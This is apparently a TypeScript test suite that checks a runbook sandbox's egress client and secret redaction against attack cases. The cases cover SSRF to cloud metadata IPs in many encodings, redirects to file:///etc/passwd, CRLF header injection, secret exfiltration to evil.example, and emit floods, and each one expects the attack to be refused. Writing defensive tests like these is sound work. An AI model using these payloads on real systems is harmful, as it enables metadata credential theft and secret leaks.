// Security corpus, part 4: the capabilities. SSRF through ctx.http (metadata and private
// addresses in every spelling, names resolving to loopback, redirects), the confused deputy
// (a secret sent where the allowlist does not reach), secret exfiltration through everything the
// platform keeps (logs, steps, attachments, result, error, state, emitted events), emit loops,
// undeclared secrets, and hostile arguments to the new host calls.
//
// ctx.http is the real egress client (libs/egress) against a server on 127.0.0.1 with a fake
// resolver; its `beforeConnect` safety net fails a case instead of letting a packet leave for
// any address but 127.0.0.1. Every case also gets the harness' containment checks.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  ChainedEmitter,
  DeclaredSecrets,
  MemoryStateRepository,
  ScopedState,
  systemClock,
  type EmitSpec,
  type EventRecord,
  type HttpCapability,
  type RunbookCapabilities,
  type StateRecord,
} from '@wolfe/application';
// eslint-disable-next-line @nx/enforce-module-boundaries -- test only: the attacks go through the real egress client
import { EgressClient } from '@wolfe/egress';
import { parseEgressRule, type EgressRule } from '@wolfe/runbooks';
import { corpusSandbox, runAttack, type AttackCase, type AttackRun } from './harness';

jest.setTimeout(30_000);

const { sandbox } = corpusSandbox();

const SECRET = 'corpus-secret-7f3a9c1e5b';
/** Requests the loopback server received (an exfiltration attempt must add none). */
const received: string[] = [];
const attempted: string[] = [];
let server: Server;
let port = 0;

beforeAll(async () => {
  server = createServer((req, res) => {
    received.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers.authorization ?? ''}`);
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/redirect') {
      res.writeHead(302, { location: url.searchParams.get('to') ?? '/' });
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ ok: true }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((r) => server.close(() => r()));
});
beforeEach(() => {
  received.length = 0;
  attempted.length = 0;
});

const rules = (...texts: string[]): EgressRule[] =>
  texts.map((t) => {
    const r = parseEgressRule(t);
    if (typeof r === 'string') throw new Error(r);
    return r;
  });

/** The fake resolver: every name of the corpus resolves where an attacker would point it. */
const DNS: Record<string, string[]> = {
  'api.corpus.test': ['127.0.0.1'],
  'rebind.svc.corpus.test': ['127.0.0.1'],
  'private.svc.corpus.test': ['10.20.30.40'],
  'mixed.svc.corpus.test': ['93.184.216.34', '192.168.1.10'],
  'metadata.google.internal': ['169.254.169.254'],
  'v6meta.corpus.test': ['fd00:ec2::254'],
  'mapped.svc.corpus.test': ['::ffff:127.0.0.1'],
};

function http(...allow: string[]): () => HttpCapability {
  return () =>
    new EgressClient({
      rules: rules(...allow),
      lookup: async (host) => {
        const found = DNS[host];
        if (found === undefined) throw Object.assign(new Error('ENOTFOUND'), { code: 'ENOTFOUND' });
        return found.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
      },
      beforeConnect: (address, p) => {
        attempted.push(`${address}:${p}`);
        if (address !== '127.0.0.1') throw new Error(`CORPUS SAFETY NET: a connection to ${address} was attempted`);
      },
    });
}

const secrets = (declared = ['TOKEN']) => new DeclaredSecrets(declared, async (name) => (name === 'TOKEN' ? SECRET : null), 'project corpus, environment prod');

function caps(extra: Partial<RunbookCapabilities> = {}, allow: string[] = [`api.corpus.test:${'PORT'}`]): () => RunbookCapabilities {
  return () => ({ secrets: secrets(), http: http(...allow.map((a) => a.replace('PORT', String(port))))(), ...extra });
}

/** Every URL is refused by the egress check: the result lists one error name per URL, and nothing connected. */
function refusedAll(count: number): (run: AttackRun) => void {
  return (run) => {
    expect(run.outcome).toEqual({ status: 'succeeded', result: Array(count).fill('EgressDeniedError') });
    expect(attempted).toEqual([]);
    expect(received).toEqual([]);
  };
}

const tryAll = (urls: string[]) => `const out: string[] = [];
for (const url of ${JSON.stringify(urls)}) out.push(await ctx.http.fetch(url.replace('PORT', String(ctx.params.port))).then(() => 'CONNECTED', (e: Error) => e.name));
return out;`;

/** The secret appears nowhere in what the execution produced. */
function noSecret(run: AttackRun): void {
  const text = JSON.stringify({ outcome: run.outcome, logs: run.logs, steps: run.steps, attachments: run.attachments });
  expect(text).not.toContain(SECRET);
  expect(text).not.toContain(SECRET.slice(0, 12));
}

const ssrf: AttackCase[] = [
  {
    name: 'ctx.http to the cloud metadata IP, under a wildcard allowlist',
    source: tryAll(['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://169.254.169.254:80/', 'https://169.254.169.254/']),
    capabilities: caps({}, ['*.corpus.test', '*.example.com']),
    expect: { status: 'succeeded' },
    check: refusedAll(3),
  },
  {
    name: 'the metadata IP in decimal, octal, hex, mixed and short spellings',
    source: tryAll(['http://2852039166/', 'http://0251.0376.0251.0376/', 'http://0xa9fea9fe/', 'http://0xa9.254.0251.0xfe/', 'http://169.254.43518/', 'http://0x7f.1:PORT/', 'http://2130706433:PORT/', 'http://017700000001:PORT/']),
    capabilities: caps({}, ['*.corpus.test']),
    expect: { status: 'succeeded' },
    check: refusedAll(8),
  },
  {
    name: 'IPv6 spellings: IPv4-mapped metadata and loopback, AWS IPv6 metadata, NAT64, 6to4, unspecified',
    source: tryAll(['http://[::ffff:169.254.169.254]/', 'http://[::ffff:a9fe:a9fe]/', 'http://[fd00:ec2::254]/', 'http://[64:ff9b::a9fe:a9fe]/', 'http://[2002:a9fe:a9fe::]/', 'http://[::ffff:127.0.0.1]:PORT/', 'http://[::1]:PORT/', 'http://[::]:PORT/', 'http://0.0.0.0:PORT/']),
    capabilities: caps({}, ['*.corpus.test']),
    expect: { status: 'succeeded' },
    check: refusedAll(9),
  },
  {
    name: 'a DNS name under a wildcard that resolves to 127.0.0.1, to a private address, to a mix, to an IPv4-mapped loopback',
    source: tryAll(['http://rebind.svc.corpus.test:PORT/', 'http://private.svc.corpus.test/', 'http://mixed.svc.corpus.test/', 'http://mapped.svc.corpus.test:PORT/']),
    capabilities: caps({}, ['*.svc.corpus.test', '*.svc.corpus.test:PORT']),
    expect: { status: 'succeeded' },
    check: refusedAll(4),
  },
  {
    name: 'metadata host names allowlisted exactly still cannot reach link-local metadata addresses',
    source: tryAll(['http://metadata.google.internal/computeMetadata/v1/', 'http://v6meta.corpus.test/']),
    capabilities: caps({}, ['metadata.google.internal', 'v6meta.corpus.test']),
    expect: { status: 'succeeded' },
    check: refusedAll(2),
  },
  {
    name: 'an allowlisted server redirects to the metadata IP, a private name, an unlisted host, a file: URL',
    source: `const out: string[] = [];
for (const to of ['http://169.254.169.254/latest/meta-data/', 'http://private.svc.corpus.test/', 'http://evil.example/', 'file:///etc/passwd']) {
  out.push(await ctx.http.fetch('http://api.corpus.test:' + String(ctx.params.port) + '/redirect?to=' + encodeURIComponent(to)).then(() => 'FOLLOWED', (e: Error) => e.name));
}
return out;`,
    capabilities: caps({}, ['api.corpus.test:PORT', '*.svc.corpus.test']),
    expect: { status: 'succeeded', result: Array(4).fill('EgressDeniedError') },
    check: () => {
      expect(attempted.every((a) => a === `127.0.0.1:${port}`)).toBe(true);
      expect(received.every((r) => r.startsWith('GET /redirect'))).toBe(true);
    },
  },
  {
    name: 'ctx.http sets Host to another virtual host, smuggles Transfer-Encoding, or asks for a proxy',
    source: `const out: string[] = [];
for (const headers of [{ host: 'internal-admin' }, { 'Transfer-Encoding': 'chunked' }, { 'proxy-authorization': 'x' }, { 'x-ok': 'line\\r\\nInjected: 1' }]) {
  out.push(await ctx.http.fetch('http://api.corpus.test:' + String(ctx.params.port) + '/', { headers }).then(() => 'SENT', (e: Error) => e.name));
}
return out;`,
    capabilities: caps(),
    expect: { status: 'succeeded', result: ['TypeError', 'TypeError', 'TypeError', 'TypeError'] },
    check: () => expect(received).toEqual([]),
  },
];

const deputy: AttackCase[] = [
  {
    name: 'a secret in the URL (query, path, user info) of a host the allowlist does not name',
    source: `const t = await ctx.secrets.get('TOKEN');
const out: string[] = [];
for (const url of ['http://evil.example/c?t=' + t, 'https://' + t + '.evil.example/', 'http://user:' + t + '@api.corpus.test:' + String(ctx.params.port) + '/', 'http://api.corpus.test:' + String(Number(ctx.params.port) + 1) + '/' + t]) {
  out.push(await ctx.http.fetch(url).then(() => 'SENT', (e: Error) => e.name + ': ' + e.message));
}
ctx.log.info(out.join('\\n'));
return out.map((o) => o.split(':')[0]);`,
    capabilities: caps(),
    expect: { status: 'succeeded', result: Array(4).fill('EgressDeniedError') },
    check: (run) => {
      noSecret(run);
      expect(received).toEqual([]);
      expect(run.logs[0]?.message).not.toContain('evil.example/c');
    },
  },
  {
    name: 'a secret sent to the platform Prometheus in a query',
    source: `const t = await ctx.secrets.get('TOKEN');
return await ctx.prometheus.query('up{x="' + t + '"}').then(() => 'SENT', (e: Error) => e.name);`,
    capabilities: () => ({ secrets: secrets(), prometheus: { query: async () => ({ sent: true }), queryRange: async () => ({ sent: true }) } }),
    expect: { status: 'succeeded', result: 'SecretLeakError' },
  },
  {
    name: 'reading a secret the manifest does not declare (another team\'s token)',
    source: `return [await ctx.secrets.get('OTHER_TEAM_TOKEN').catch((e: Error) => e.name), await ctx.secrets.get('TOKEN').then((v) => v.length)];`,
    capabilities: () => ({ secrets: new DeclaredSecrets(['TOKEN'], async (name) => (name === 'OTHER_TEAM_TOKEN' ? 'stolen-value-1234' : SECRET), 'project corpus, environment prod') }),
    expect: { status: 'succeeded', result: ['SecretNotDeclaredError', SECRET.length] },
  },
];

const exfiltration: AttackCase[] = [
  {
    name: 'a secret in log messages, console args, log fields (values and keys), a toString hook',
    source: `const t = await ctx.secrets.get('TOKEN');
ctx.log.info('token=' + t, { t, nested: [{ deep: { t } }], [t]: 1, json: JSON.stringify({ t }) });
console.error('console', t, { t });
ctx.log.warn({ toString: () => 'via toString ' + t } as unknown as string);
return 'ok';`,
    capabilities: caps(),
    expect: { status: 'succeeded', result: 'ok' },
    check: (run) => {
      noSecret(run);
      expect(run.logs.map((l) => l.message)).toEqual(['token=[secret:TOKEN]', 'console [secret:TOKEN] {"t":"[secret:TOKEN]"}', 'via toString [secret:TOKEN]']);
    },
  },
  {
    name: 'a secret in step names, step outputs, step errors and attachments',
    source: `const t = await ctx.secrets.get('TOKEN');
await ctx.step('step ' + t, () => ({ t }));
await ctx.step('fails', () => { throw new TypeError(t); }).catch(() => undefined);
ctx.attach('attach ' + t, { rows: [t, { [t]: t }] });
return 'ok';`,
    capabilities: caps(),
    expect: { status: 'succeeded', result: 'ok' },
    check: noSecret,
  },
  {
    name: 'a secret in the result (nested, as a key, JSON-escaped) and in the error message and stack',
    source: `const t = await ctx.secrets.get('TOKEN');
if (ctx.params.fail === true) { const e = new Error('boom ' + t); e.stack = 'Error: ' + t + '\\n    at x (index.ts:1:1)'; throw e; }
return { t, list: [t], [t]: 'key', escaped: JSON.stringify(JSON.stringify(t)) };`,
    capabilities: caps(),
    expect: { status: 'succeeded', result: { t: '[secret:TOKEN]', list: ['[secret:TOKEN]'], '[secret:TOKEN]': 'key', escaped: JSON.stringify(JSON.stringify('[secret:TOKEN]')) } },
    check: noSecret,
  },
  {
    name: 'a secret in a thrown error (message and forged stack)',
    source: `const t = await ctx.secrets.get('TOKEN');
const e = new Error('boom ' + t);
Object.defineProperty(e, 'stack', { value: 'Error: ' + t + '\\n    at attack (index.ts:1:1)' });
throw e;`,
    capabilities: caps(),
    expect: { status: 'failed', name: 'Error', message: /^boom \[secret:TOKEN\]/ },
    check: noSecret,
  },
  {
    name: 'a secret cut in half by the log message limit and the step output limit',
    source: `const t = await ctx.secrets.get('TOKEN');
ctx.log.info('x'.repeat(16_384 - 8) + t);
await ctx.step('cut', () => 'y'.repeat(1_020) + t);
return 'ok';`,
    capabilities: caps(),
    expect: { status: 'succeeded', result: 'ok' },
    check: noSecret,
  },
  {
    name: 'a secret stored in state and raised in an emitted event',
    source: `const t = await ctx.secrets.get('TOKEN');
await ctx.state.set('stash', { t, [t]: t });
await ctx.emit({ labels: { alertname: 'Exfil', t }, annotations: { t } });
return 'ok';`,
    capabilities: () => {
      const repo = new MemoryStateRepository();
      const raised: EmitSpec[] = [];
      stash.repo = repo;
      stash.raised = raised;
      return {
        ...caps()(),
        state: new ScopedState(repo, { project: 'corpus', runbook: 'attack', env: 'prod' }, systemClock),
        emit: new ChainedEmitter(async (e) => (raised.push(e), { id: 'e1' } as EventRecord), { project: 'corpus', runbook: 'attack', env: 'prod' }, null, systemClock),
      };
    },
    expect: { status: 'succeeded', result: 'ok' },
    check: () => {
      const records = (stash.repo as unknown as { records: Map<string, StateRecord> } | undefined)?.records;
      const kept = JSON.stringify(stash.raised) + JSON.stringify([...(records?.values() ?? [])]);
      expect(kept).toContain('stash');
      expect(JSON.stringify(stash.raised)).toContain('[secret:TOKEN]');
      expect(kept).not.toContain(SECRET);
    },
  },
];

/** What the last state/emit case kept (read by its check). */
const stash: { repo?: MemoryStateRepository; raised?: EmitSpec[] } = {};

const chainEvent = (chain: string[]): Pick<EventRecord, 'source' | 'annotations'> => ({
  source: `runbook:${chain[chain.length - 1] ?? ''}`,
  annotations: { wolfe_emit_chain: chain.join(',') },
});

const loops: AttackCase[] = [
  {
    name: 'an emit flood: more than the per-execution limit, concurrently',
    source: `const results = await Promise.all(Array.from({ length: 15 }, (_, i) => ctx.emit({ labels: { alertname: 'Flood', i: String(i) } }).then(() => 'ok', (e: Error) => e.name)));
return { ok: results.filter((r) => r === 'ok').length, refused: results.filter((r) => r === 'EmitLimitError').length, other: results.filter((r) => r !== 'ok' && r !== 'EmitLimitError') };`,
    capabilities: () => ({ emit: new ChainedEmitter(async () => ({ id: 'e' }) as EventRecord, { project: 'corpus', runbook: 'attack', env: 'prod' }, null, systemClock) }),
    expect: { status: 'succeeded', result: { ok: 10, refused: 5, other: [] } },
  },
  {
    name: 'an execution at the end of a chain of 3 emitting runbooks tries to emit (and to forge its chain)',
    source: `return await ctx.emit({ labels: { alertname: 'Deeper' }, annotations: { wolfe_emit_chain: '' } }).then(() => 'EMITTED', (e: Error) => e.name);`,
    capabilities: () => ({ emit: new ChainedEmitter(async () => ({ id: 'e' }) as EventRecord, { project: 'corpus', runbook: 'attack', env: 'prod' }, chainEvent(['a/one', 'b/two', 'corpus/three']), systemClock) }),
    expect: { status: 'succeeded', result: 'EmitLimitError' },
  },
  {
    name: 'a forged chain annotation on an alert from outside is ignored (it is not an emitted event)',
    source: `return (await ctx.emit({ labels: { alertname: 'Next' } })).id;`,
    capabilities: () => ({
      emit: new ChainedEmitter(async () => ({ id: 'emitted' }) as EventRecord, { project: 'corpus', runbook: 'attack', env: 'prod' }, { source: 'alertmanager', annotations: { wolfe_emit_chain: 'x/1,x/2,x/3,x/4' } }, systemClock),
    }),
    expect: { status: 'succeeded', result: 'emitted' },
  },
];

const hostile: AttackCase[] = [
  {
    name: 'hostile arguments to the new host calls: Proxies, throwing getters, toJSON, huge and deep values',
    source: `const trap = () => { throw new Error('trap'); };
const out: string[] = [];
const attempt = async (f: () => Promise<unknown>) => out.push(await f().then(() => 'ok', (e: Error) => e.name));
await attempt(() => ctx.http.fetch('http://api.corpus.test/', { headers: new Proxy({}, { ownKeys: trap }) as Record<string, string> }));
await attempt(() => ctx.http.fetch('http://api.corpus.test/', Object.defineProperty({}, 'method', { get: trap })));
await attempt(() => ctx.state.set('k', { toJSON: trap }));
await attempt(() => ctx.state.set('k', 'x'.repeat(2 * 1024 * 1024)));
let deep: unknown = 1; for (let i = 0; i < 200; i++) deep = [deep];
await attempt(() => ctx.state.set('deep', deep));
await attempt(() => ctx.emit({ labels: new Proxy({}, { get: trap, ownKeys: trap }) as Record<string, string> }));
await attempt(() => ctx.secrets.get({ toString: () => 'TOKEN' } as unknown as string));
await attempt(() => ctx.state.get('__proto__'));
return out;`,
    capabilities: () => ({ ...caps()(), state: new ScopedState(new MemoryStateRepository(), { project: 'corpus', runbook: 'attack', env: 'prod' }, systemClock) }),
    expect: { status: 'succeeded', result: ['Error', 'EgressDeniedError', 'TypeError', 'RangeError', 'TypeError', 'TypeError', 'TypeError', 'ok'] },
    check: () => expect(received).toEqual([]),
  },
  {
    name: 'capability calls that never settle: the wall clock ends the execution and aborts them',
    source: `await Promise.all(Array.from({ length: 16 }, () => ctx.http.fetch('http://api.corpus.test/')));
return 'never';`,
    limits: { timeoutMs: 500 },
    capabilities: () => ({ http: { fetch: (_r, call) => new Promise<never>((_resolve, reject) => call.signal.addEventListener('abort', () => reject(new Error('aborted')))) } }),
    expect: { status: 'timed_out', limit: 'timeout' },
  },
];

describe.each([
  ['SSRF through ctx.http', ssrf],
  ['confused deputy and undeclared secrets', deputy],
  ['secret exfiltration through what the platform keeps', exfiltration],
  ['emit loops', loops],
  ['hostile arguments and runaway calls', hostile],
])('corpus: %s', (_title, cases) => {
  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    await runAttack(sandbox(), { ...c, params: { port, ...(c.params ?? {}) } });
  });
});
